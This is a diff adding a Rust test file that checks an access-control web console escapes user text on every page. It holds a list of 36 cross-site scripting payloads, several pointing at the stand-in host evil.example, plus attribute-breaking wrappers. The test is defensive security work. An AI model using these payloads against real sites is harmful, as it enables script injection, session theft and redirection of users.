@@ -1,0 +1,377 @@
+//! Texts that would like to be markup, in every field of every page: they stay texts.
+
+use std::collections::BTreeMap;
+
+use serde::de::DeserializeOwned;
+use serde_json::{Value, json};
+
+use super::markup::{elements, shape};
+use super::{grant_with, now, profile_with, request_with, session_with};
+use crate::access::ExplanationView;
+use crate::audit::LogRecord;
+use crate::audit::timeline::SessionTimeline;
+use crate::console::form::{self, Fields};
+use crate::console::pages::ask::{self, AskView};
+use crate::console::pages::decide::{self, DecideRow};
+use crate::console::pages::gate::{self, GateView, TargetRow};
+use crate::console::pages::live::{self, LiveView};
+use crate::console::pages::log::{self, Found, LogState};
+use crate::console::pages::mine::{self, MineView};
+use crate::console::pages::request::{self, RequestPageView};
+use crate::console::pages::window::{self, WindowView};
+use crate::console::pages::{policies, sign_in, story, users};
+use crate::console::templates::frame::{self, Frame, Section, Viewer};
+use crate::console::templates::problem;
+use crate::control::model::{Briefing, Problem, ProfileBody, TargetStatus, UserView};
+use crate::model::names::ProfileName;
+
+/// A text without anything that markup could be made of.
+const HARMLESS: &str = "harmless";
+
+/// What is known to have worked somewhere.
+const PAYLOADS: [&str; 36] = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<form action=//evil.example><button>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>*{background:url(//evil.example)}</style>",
+    "<math><mi xlink:href=javascript:alert(1)>x",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<textarea></textarea><script>alert(1)</script>",
+    "<!--><script>alert(1)</script-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><x/>",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "onmouseover=alert(1)",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "\u{202e}<script>\u{202c}",
+    "\u{0}<\u{0}script\u{0}>",
+    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
+    "-->]]>*/</script></style></title></textarea></select></option></noscript>",
+];
+
+/// What gets a text out of an attribute, an element or a comment.
+const BREAKS: [(&str, &str); 6] = [
+    ("", ""),
+    ("\"", "\""),
+    ("'", "'"),
+    ("\">", ""),
+    ("'>", "<!--"),
+    ("</textarea></title>", "<x y=\""),
+];
+
+fn texts() -> Vec<String> {
+    let all = PAYLOADS
+        .iter()
+        .flat_map(|text| BREAKS.iter().map(move |(before, after)| format!("{before}{text}{after}")));
+    all.collect()
+}
+
+fn of<T: DeserializeOwned>(value: Value) -> T {
+    serde_json::from_value(value).unwrap()
+}
+
+fn outcomes(text: &str) -> Vec<(Value, &'static str)> {
+    vec![
+        (Value::Null, "pending"),
+        (
+            json!({"outcome": "denied", "at": "2026-08-01T11:01:00Z", "why": text}),
+            "denied",
+        ),
+        (
+            json!({"outcome": "rejected", "at": "2026-08-01T11:01:00Z", "by": super::name(text), "comment": text}),
+            "rejected",
+        ),
+        (
+            json!({"outcome": "approved", "at": "2026-08-01T11:01:00Z", "how": "people", "grant": "gr_0123456789"}),
+            "approved",
+        ),
+    ]
+}
+
+/// Every page with this text wherever a text may be.
+fn pages(text: &str) -> Vec<(&'static str, String)> {
+    let mut pages = people(text);
+    pages.extend(of_operators(text));
+    pages.extend(of_log(text));
+    let viewer = Viewer {
+        name: super::name(text),
+        reads_log: true,
+        administers: true,
+    };
+    let frame = Frame {
+        viewer: Some(&viewer),
+        section: Some(Section::Mine),
+        now: Some(now()),
+        ..Frame::bare(text)
+    };
+    pages.push(("frame", frame::page(&frame, &maud::html! {}).into_string()));
+    pages
+}
+
+fn problem_with(text: &str) -> Problem {
+    of(json!({
+        "type": text, "title": text, "status": 403, "detail": text, "remedy": text, "policies": [text], "nearest": text,
+    }))
+}
+
+fn explained(text: &str) -> ExplanationView {
+    of(json!({
+        "identity": super::name(text), "action": text, "answer": {"verdict": "denied", "why": text}, "policies": [text],
+        "remedies": [{"change": text, "answer": {"verdict": "automatic"}}], "policy_set": text,
+    }))
+}
+
+fn people(text: &str) -> Vec<(&'static str, String)> {
+    let (problem, explained) = (problem_with(text), explained(text));
+    let profile: ProfileBody = of(profile_with(text));
+    let form = form::path(
+        "/ask",
+        &["reason", "ticket", "window", "sessions", "target", "profile"].map(|name| (name, text)),
+    );
+    let fields = Fields::parse(form.split_once('?').unwrap().1.as_bytes());
+    let asked = AskView {
+        target: text,
+        profile: Some(&profile),
+        fields: &fields,
+        window: text,
+        key: text,
+        explained: Some(&explained),
+        problem: Some(&problem),
+    };
+    let mut pages = vec![
+        ("problem", problem::page(&problem, None).into_string()),
+        ("ask", ask::body(&asked).into_string()),
+        ("sign-in", sign_in::body(text, Some(&problem)).into_string()),
+    ];
+    pages.extend(of_requests(text, &profile));
+    pages
+}
+
+fn of_requests(text: &str, profile: &ProfileBody) -> Vec<(&'static str, String)> {
+    let mut pages = Vec::new();
+    let narrower: Vec<ProfileName> = vec!["read-only".parse().unwrap(), "read-write".parse().unwrap()];
+    for (outcome, status) in outcomes(text) {
+        let view = || request_with(text, &outcome, status);
+        let mut with_approvers = view();
+        with_approvers["approvers"] = json!([super::name(text)]);
+        let briefing: Briefing = of(json!({
+            "request": with_approvers, "profile": profile_with(text), "earlier": [view()], "sessions": [session_with(text)],
+            "verdict": {"verdict": "approvals", "approvals": 2}, "policies": [text], "may_decide": true,
+        }));
+        for own in [true, false] {
+            let shown = RequestPageView {
+                briefing: &briefing,
+                narrower: &narrower,
+                own,
+                now: now(),
+            };
+            pages.push(("request", request::body(&shown).into_string()));
+        }
+        let rows = [
+            DecideRow {
+                view: of(view()),
+                mine: true,
+            },
+            DecideRow {
+                view: of(view()),
+                mine: false,
+            },
+        ];
+        pages.push(("decide", decide::body(&rows, false, now()).into_string()));
+        let grant = of(grant_with(text));
+        let sessions = [of(session_with(text))];
+        let offers = BTreeMap::from([("orders".parse().unwrap(), vec![profile.clone()])]);
+        let mine = MineView {
+            grants: std::slice::from_ref(&grant),
+            pending: &[of(view())],
+            earlier: &[of(view())],
+            sessions: &sessions,
+            offers: &offers,
+            now: now(),
+        };
+        pages.push(("mine", mine::body(&mine).into_string()));
+        for own in [true, false] {
+            let shown = WindowView {
+                grant: &grant,
+                sessions: &sessions,
+                own,
+                ends_sessions: true,
+                now: now(),
+            };
+            pages.push(("grant", window::body(&shown).into_string()));
+        }
+    }
+    pages
+}
+
+fn of_operators(text: &str) -> Vec<(&'static str, String)> {
+    let sessions = [of(session_with(text))];
+    let live = LiveView {
+        sessions: &sessions,
+        all: 3,
+        reads_log: true,
+        now: now(),
+    };
+    let status = json!([{
+        "profile": "read-only", "looked_at": "2026-08-01T11:50:00Z", "differences": 2, "first": [text], "problem": text,
+    }]);
+    let targets = [TargetRow {
+        name: "orders".parse().unwrap(),
+        profiles: vec!["read-only".parse().unwrap()],
+        seen: of(status.clone()),
+    }];
+    let failed = Err(text.to_owned());
+    let gate = GateView {
+        ready: &failed,
+        alive: &failed,
+        targets: &targets,
+        gate_time: now(),
+        advertise: text,
+        sessions: 3,
+    };
+    let target: TargetStatus = of(json!({
+        "target": "orders", "role_per_grant": true, "made": 1, "retired": 1, "left": 0, "intruders": 0, "elsewhere": 0,
+        "roles": [{
+            "role": text, "grant": "gr_0123456789", "identity": super::name(text), "status": text, "can_login": false,
+            "backends": 1, "sessions": 1,
+        }],
+        "profiles": status,
+    }));
+    let user: UserView = of(json!({
+        "name": super::name(text), "groups": ["qa"], "disabled": false, "local": true, "created_at": "2026-08-01T11:50:00Z",
+    }));
+    let explained = explained(text);
+    let problem = problem_with(text);
+    let query = form::path(
+        "/gate/policies",
+        &["identity", "target", "profile", "at"].map(|name| (name, text)),
+    );
+    let fields = Fields::parse(query.split_once('?').unwrap().1.as_bytes());
+    vec![
+        ("live", live::body(&live).into_string()),
+        ("gate", gate::body(&gate).into_string()),
+        ("target", gate::target_body(&target, now()).into_string()),
+        ("users", users::body(std::slice::from_ref(&user)).into_string()),
+        (
+            "token",
+            users::token_body(&user, Some(text), &[text.to_owned()]).into_string(),
+        ),
+        (
+            "policies",
+            policies::body(Some(text), &[text.to_owned()], &fields, Some(&explained), Some(&problem)).into_string(),
+        ),
+    ]
+}
+
+/// Every kind of record with the text in every field that takes it.
+fn of_log(text: &str) -> Vec<(&'static str, String)> {
+    let records: Vec<LogRecord> = include_str!("../../audit/snapshots/records.jsonl")
+        .lines()
+        .map(|line| record(line, text))
+        .collect();
+    let id = "se_1111111111".parse().unwrap();
+    let timeline = SessionTimeline::of(records.clone(), records.clone());
+    let found = Found {
+        records,
+        unreadable: vec![text.to_owned()],
+        stopped: true,
+    };
+    let log = LogState {
+        records: 3,
+        signed: Some(now()),
+        trouble: Some(text.to_owned()),
+    };
+    let query = form::path(
+        "/log",
+        &["identity", "target", "text", "since", "event"].map(|name| (name, text)),
+    );
+    let fields = Fields::parse(query.split_once('?').unwrap().1.as_bytes());
+    vec![
+        ("log", log::body(&fields, &found, &log).into_string()),
+        ("story", story::body(&id, &timeline, true).into_string()),
+    ]
+}
+
+/// A record in which each text is this one, as far as the record can have it.
+fn record(line: &str, text: &str) -> LogRecord {
+    let mut value: Value = serde_json::from_str(line).unwrap();
+    let names: Vec<String> = value.as_object().unwrap().keys().cloned().collect();
+    for name in names {
+        let before = value.clone();
+        replace(&mut value[&name], text);
+        if LogRecord::parse(value.to_string().as_bytes()).is_err() {
+            value = before;
+        }
+    }
+    LogRecord::parse(value.to_string().as_bytes()).unwrap()
+}
+
+fn replace(value: &mut Value, text: &str) {
+    match value {
+        Value::String(old) => text.clone_into(old),
+        Value::Array(items) => items.iter_mut().for_each(|item| replace(item, text)),
+        Value::Object(fields) => fields.values_mut().for_each(|field| replace(field, text)),
+        _ => {}
+    }
+}
+
+#[test]
+fn no_text_becomes_markup() {
+    let texts = texts();
+    assert!(texts.len() >= 200, "{}", texts.len());
+    // Names cannot have each text; a page is compared with that of a text of the same kind.
+    let plain = pages(HARMLESS);
+    let expected: Vec<Vec<String>> = plain.iter().map(|(_, page)| shape(page)).collect();
+    for text in &texts {
+        for ((name, page), expected) in pages(text).iter().zip(&expected) {
+            assert_eq!(&shape(page), expected, "{name}: {text}");
+        }
+    }
+}
+
+#[test]
+fn pages_have_no_handlers_no_styles_and_no_other_origin() {
+    for (name, page) in pages("\"><img src=//evil.example onerror=alert(1)>") {
+        for element in elements(&page) {
+            assert!(
+                !matches!(
+                    element.name.as_str(),
+                    "style" | "iframe" | "object" | "embed" | "base" | "img"
+                ),
+                "{name}: {element:?}"
+            );
+            for (attribute, value) in &element.attributes {
+                assert!(
+                    !attribute.starts_with("on") && attribute != "style" && attribute != "srcdoc",
+                    "{name}: {element:?}"
+                );
+                let own = value.starts_with('/') && !value.starts_with("//");
+                if matches!(attribute.as_str(), "href" | "src" | "action" | "formaction") {
+                    assert!(
+                        own || value.starts_with('#') || value.starts_with("data:image/svg+xml,"),
+                        "{name}: {element:?}"
+                    );
+                }
+            }
+        }
+    }
+}
